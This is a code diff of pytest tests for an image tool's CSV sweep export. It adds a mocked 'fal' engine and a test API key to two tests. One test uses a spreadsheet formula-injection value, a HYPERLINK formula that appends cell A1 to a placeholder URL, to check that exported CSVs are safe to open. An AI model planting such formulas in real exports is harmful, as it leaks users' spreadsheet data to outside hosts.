@@ -95,13 +95,15 @@ def _sweep(client, image: str, **params) -> tuple[str, str]:
 
 
 @pytest.mark.reliability("exports")
-def test_the_sweep_csv_is_safe_to_open(client, tmp_path: Path, case) -> None:
+def test_the_sweep_csv_is_safe_to_open(client, tmp_path: Path, case, fal_server, fal_key, monkeypatch) -> None:
     case.tried = 3  # formula cells, UTF-8 with BOM round trip, no server paths
+    monkeypatch.setenv("FAL_KEY", fal_key)  # the prompt is an axis fal uses (the local engine ignores it)
+    fal_server.set_default(queue_polls=1, run_polls=1)
     image = files.plain("RGB", "PNG")
     path = tmp_path / "in.png"
     path.write_bytes(image)
     formula = '=HYPERLINK("https://example.invalid/?"&A1,"open") café 東京'
-    sheet_csv, _ = _sweep(client, str(path), prompt="a cat", x_axis="prompt",
+    sheet_csv, _ = _sweep(client, str(path), prompt="a cat", x_axis="prompt", engine="fal",
                           x_values=f"{formula} | -1 café 東京")
     data = Path(sheet_csv).read_bytes()
     assert data.startswith(b"\xef\xbb\xbf")
@@ -112,10 +114,12 @@ def test_the_sweep_csv_is_safe_to_open(client, tmp_path: Path, case) -> None:
 
 
 @pytest.mark.reliability("axis syntax")
-def test_quoted_prompt_sr_values_with_spaces_run(client, tmp_path: Path) -> None:
+def test_quoted_prompt_sr_values_with_spaces_run(client, tmp_path: Path, fal_server, fal_key, monkeypatch) -> None:
+    monkeypatch.setenv("FAL_KEY", fal_key)  # prompt search/replace is an axis of fal's (the local engine ignores it)
+    fal_server.set_default(queue_polls=1, run_polls=1)
     path = tmp_path / "in.png"
     path.write_bytes(files.plain("RGB", "PNG"))
-    sheet_csv, _ = _sweep(client, str(path), prompt="a red, fox", x_axis="prompt_sr",
+    sheet_csv, _ = _sweep(client, str(path), prompt="a red, fox", x_axis="prompt_sr", engine="fal",
                           x_values='"red, fox" , "blue, bird"')
     rows = list(csv.DictReader(io.StringIO(Path(sheet_csv).read_bytes().decode("utf-8-sig"), newline="")))
     assert [row["prompt"] for row in rows] == ["a red, fox", "a blue, bird"]
